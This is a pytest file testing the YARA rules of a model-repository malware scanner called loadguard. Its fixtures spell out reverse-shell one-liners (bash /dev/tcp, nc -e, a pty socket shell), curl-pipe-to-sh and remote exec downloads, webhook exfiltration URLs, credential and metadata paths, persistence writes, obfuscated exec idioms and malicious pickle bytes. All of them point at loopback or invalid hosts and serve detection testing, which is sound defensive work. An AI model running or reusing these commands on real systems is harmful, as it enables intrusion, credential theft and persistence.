"""YARA analyzer: each rule family fires on a harmless sample, stays quiet on benign code."""

from __future__ import annotations

import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from loadguard.analyzers import DEFAULT_ANALYZERS, REGISTRY, load_analyzer
from loadguard.analyzers import yara as yara_mod
from loadguard.engine import scan_snapshot
from loadguard.errors import MissingExtra
from loadguard.model import Finding, Severity
from loadguard.sources.local import snapshot_from_folder

pytest.importorskip("yara")
EXAMPLES = Path(__file__).resolve().parent.parent / "examples" / "repos"
MakeRepo = Callable[..., Path]


def yara_findings(root: Path, **options: object) -> list[Finding]:
    result = scan_snapshot(snapshot_from_folder(root), analyzers=["yara"], options=options)
    assert not [e for e in result.errors if e.stage == "yara"], result.errors
    return [f for f in result.findings if f.analyzer == "yara"]


def rules_of(findings: list[Finding]) -> set[str]:
    return {f.rule_id for f in findings}


def test_registered_and_default() -> None:
    assert REGISTRY["yara"].endswith(":YaraAnalyzer")
    assert "yara" in DEFAULT_ANALYZERS
    for name in ("bandit", "semgrep", "codeql"):
        assert name in REGISTRY and name not in DEFAULT_ANALYZERS


def test_rules_compile_once_and_carry_meta() -> None:
    assert yara_mod.compiled_rules() is yara_mod.compiled_rules()
    for rule in yara_mod.compiled_rules():
        for key in ("id", "cwe", "severity", "description", "family"):
            assert key in rule.meta, (rule.identifier, key)
        Severity.parse(rule.meta["severity"])
        assert rule.meta["cwe"].startswith("CWE-")


SAMPLES = {
    "LG-YARA-REVSHELL-001": (
        "import socket, os, pty\n"
        "s = socket.socket()\n"
        "s.connect(('127.0.0.1', 4444))\n"
        "os.dup2(s.fileno(), 0)\n"
        "pty.spawn('/bin/sh')\n"
    ),
    "LG-YARA-REVSHELL-002": "CMD = 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'\n",
    "LG-YARA-REVSHELL-003": "c = 'nc -e /bin/sh 127.0.0.1 4444'\n",
    "LG-YARA-MINER-001": "POOL = 'stratum+tcp://pool.example.invalid:3333'\n",
    "LG-YARA-MINER-002": "ARGS = ['./xmrig', '--donate-level', '1']\n",
    "LG-YARA-CRED-002": "P = ['~/.aws/credentials', '~/.ssh/id_rsa']\n",
    "LG-YARA-CRED-003": "URL = 'http://169.254.169.254/latest/meta-data/iam/'\n",
    "LG-YARA-DLEXEC-001": "os.system('curl -s http://x.example.invalid/i.sh | sh')\n",
    "LG-YARA-DLEXEC-002": "exec(urllib.request.urlopen('http://x.invalid/p.py').read())\n",
    "LG-YARA-DLEXEC-003": "subprocess.call([sys.executable, '-m', 'pip', 'install', 'x'])\n",
    "LG-YARA-EXFIL-001": "H = 'https://discord.com/api/webhooks/123/abc'\n",
    "LG-YARA-EXFIL-002": "H = 'https://webhook.site/abc'\n",
    "LG-YARA-PERSIST-001": "with open(os.path.join(home, '.bashrc'), 'a') as f:\n    f.write(x)\n",
    "LG-YARA-PERSIST-002": (
        "site = os.path.join(prefix, 'site-packages')\n"
        "with open(os.path.join(site, 'zz_boot.pth'), 'w') as f:\n"
        "    f.write('import boot; boot.run()')\n"
    ),
    "LG-YARA-PERSIST-003": "os.system('(crontab -l; echo \"* * * * * true\") | crontab -')\n",
    "LG-YARA-ENV-002": (
        "import os, sys\n"
        "if os.path.exists('/.dockerenv') or sys.gettrace() is not None:\n"
        "    raise SystemExit\n"
    ),
}


@pytest.mark.parametrize("rule_id", sorted(SAMPLES))
def test_each_family_fires(make_repo: MakeRepo, rule_id: str) -> None:
    root = make_repo({"hubconf.py": SAMPLES[rule_id]})
    found = yara_findings(root)
    assert rule_id in rules_of(found)
    hit = next(f for f in found if f.rule_id == rule_id)
    assert hit.location.line is not None and hit.snippet and hit.cwe
    assert hit.reachable is True  # hubconf.py is executed by torch.hub


def _stack_global_pickle(module: str, name: str) -> bytes:
    # Protocol 4 opcodes assembled by hand; the bytes are never unpickled.
    def short(text: str) -> bytes:
        return b"\x8c" + bytes([len(text)]) + text.encode() + b"\x94"

    return (
        b"\x80\x04\x95\x00\x00\x00\x00\x00\x00\x00\x00"
        + short(module) + short(name) + b"\x93\x94"
        + short("true") + b"\x85\x94R\x94."
    )  # fmt: skip


def test_pickle_patterns(make_repo: MakeRepo) -> None:
    root = make_repo(
        {
            "sg.pkl": _stack_global_pickle("posix", "system"),
            "g.bin": b"cos\nsystem\n(S'true'\ntR.",
            "ok.pkl": _stack_global_pickle("collections", "OrderedDict"),
        }
    )
    found = yara_findings(root)
    by_file = {f.location.path: f.rule_id for f in found if f.rule_id.startswith("LG-YARA-PICKLE")}
    assert by_file.get("sg.pkl") == "LG-YARA-PICKLE-002"
    assert by_file.get("g.bin") == "LG-YARA-PICKLE-001"
    assert "ok.pkl" not in by_file
    sg = next(f for f in found if f.location.path == "sg.pkl")
    assert sg.location.line is None and sg.location.offset is not None
    assert sg.severity is Severity.CRITICAL


def test_large_file_scanned_at_both_ends_only(make_repo: MakeRepo) -> None:
    window = 4096
    filler = b"\x00" * window
    payload = b"stratum+tcp://pool.example.invalid:3333"
    root = make_repo(
        {
            "tail.bin": filler * 3 + payload,
            "middle.bin": filler * 2 + payload + filler * 2,
            "head.bin": payload + filler * 3,
        }
    )
    found = {f.location.path: f for f in yara_findings(root, yara_window_bytes=window)}
    assert "tail.bin" in found and "head.bin" in found
    assert found["tail.bin"].location.offset == 3 * window
    assert "middle.bin" not in found  # outside both windows: bounded by design


def test_documentation_capped_low(make_repo: MakeRepo) -> None:
    root = make_repo({"README.md": "Install: curl -fsSL https://get.example.invalid | sh\n"})
    found = yara_findings(root)
    assert found and all(f.severity <= Severity.LOW for f in found)


def test_benign_examples_quiet_above_low() -> None:
    for repo in ("hf-custom-clean", "hf-builtin-bert", "torchhub-vision", "st-custom-pooling"):
        found = yara_findings(EXAMPLES / repo)
        assert not [f for f in found if f.severity > Severity.LOW], repo


def test_environment_marker_alone_is_low(make_repo: MakeRepo) -> None:
    root = make_repo({"util.py": "import os\nIN_DOCKER = os.path.exists('/.dockerenv')\n"})
    found = yara_findings(root)
    assert rules_of(found) == {"LG-YARA-ENV-001"}
    assert found[0].severity is Severity.LOW


def test_missing_extra_is_reported_not_raised(
    make_repo: MakeRepo, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(sys.modules, "yara", None)  # import yara -> ImportError
    yara_mod.compiled_rules.cache_clear()
    try:
        with pytest.raises(MissingExtra):
            load_analyzer("yara")
        result = scan_snapshot(
            snapshot_from_folder(make_repo({"a.py": "x = 1\n"})), analyzers=["yara"]
        )
        (stat,) = result.stats
        assert stat.skipped_reason and "loadguard[yara]" in stat.skipped_reason
        assert any(e.kind == "missing-extra" for e in result.errors)
    finally:
        monkeypatch.delitem(sys.modules, "yara")
        yara_mod.compiled_rules.cache_clear()


@pytest.mark.parametrize(
    ("source", "rule_id"),
    [
        (
            "import zlib, base64\nexec(zlib.decompress(base64.b64decode('eJw=')))\n",
            "LG-YARA-OBF-001",
        ),
        ("exec(''.join(map(chr, [112, 114])))\n", "LG-YARA-OBF-001"),
        ("f = getattr(__import__('o' + 's'), 'sys' + 'tem')\n", "LG-YARA-OBF-002"),
        ("f = getattr(__import__(bytes.fromhex('6f73').decode()), 'system')\n", "LG-YARA-OBF-002"),
        ("g = __builtins__['exec']\n", "LG-YARA-OBF-002"),
    ],
)
def test_obfuscation_idioms(make_repo: MakeRepo, source: str, rule_id: str) -> None:
    assert rule_id in rules_of(yara_findings(make_repo({"hubconf.py": source})))


def test_plain_dynamic_code_not_obfuscation(make_repo: MakeRepo) -> None:
    source = (
        "import importlib\n"
        "mod = importlib.import_module('torchvision')\n"
        "model.eval()\n"
        "value = eval('1 + 1')  # eval of a constant\n"
        "name = getattr(module, 'weight')\n"
    )
    assert not rules_of(yara_findings(make_repo({"hubconf.py": source})))


def test_pickle_inside_torch_zip(make_repo: MakeRepo) -> None:
    import io
    import zipfile

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_STORED) as archive:
        archive.writestr("archive/data.pkl", _stack_global_pickle("subprocess", "check_output"))
        archive.writestr("archive/data/0", b"\x00" * 64)
    root = make_repo({"pytorch_model.bin": buffer.getvalue(), "config.json": {"model_type": "x"}})
    found = [f for f in yara_findings(root) if f.location.path == "pytorch_model.bin"]
    assert [f.rule_id for f in found] == ["LG-YARA-PICKLE-002"]
    assert found[0].location.offset and found[0].evidence


def _fresh_rules(monkeypatch: pytest.MonkeyPatch, cache: str) -> list[str]:
    """The rule names a new process would get with this cache directory."""
    monkeypatch.setenv("LOADGUARD_CACHE_DIR", cache)
    yara_mod.compiled_rules.cache_clear()
    try:
        return [rule.identifier for rule in yara_mod.compiled_rules()]
    finally:
        yara_mod.compiled_rules.cache_clear()


def test_compiled_rules_are_cached_for_later_processes(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import yara

    first = _fresh_rules(monkeypatch, str(tmp_path))
    (cached,) = tmp_path.glob("yara-*.yarc")
    assert cached == yara_mod.compiled_rules_path(yara.__version__)

    def no_compiling(**kwargs: object) -> None:
        raise AssertionError("compiled again despite the cache")

    monkeypatch.setattr(yara, "compile", no_compiling)
    assert _fresh_rules(monkeypatch, str(tmp_path)) == first


def test_a_damaged_cache_is_compiled_again(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import yara

    monkeypatch.setenv("LOADGUARD_CACHE_DIR", str(tmp_path))
    path = yara_mod.compiled_rules_path(yara.__version__)
    assert path is not None
    path.write_bytes(b"YARA" + b"\x00" * 64)  # not compiled rules
    assert _fresh_rules(monkeypatch, str(tmp_path))
    assert [rule.identifier for rule in yara.load(str(path))]  # rewritten with good rules


def test_an_unwritable_or_disabled_cache_is_not_an_error(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    blocked = tmp_path / "file"
    blocked.write_text("a file where the cache directory should be")
    assert _fresh_rules(monkeypatch, str(blocked / "sub"))
    assert list(tmp_path.iterdir()) == [blocked]  # no stray partial file either
    monkeypatch.setenv("LOADGUARD_CACHE_DIR", "")
    assert yara_mod.compiled_rules_path("4.5") is None
    assert _fresh_rules(monkeypatch, "")


def test_no_home_directory_means_no_cache(monkeypatch: pytest.MonkeyPatch) -> None:
    def no_home() -> Path:
        raise RuntimeError("Could not determine home directory.")

    monkeypatch.delenv("LOADGUARD_CACHE_DIR")
    monkeypatch.delenv("XDG_CACHE_HOME", raising=False)
    monkeypatch.setattr(Path, "home", staticmethod(no_home))
    assert yara_mod.compiled_rules_path("4.5") is None
    monkeypatch.setenv("XDG_CACHE_HOME", "/nonexistent.invalid")
    assert str(yara_mod.compiled_rules_path("4.5")).startswith("/nonexistent.invalid/loadguard/")
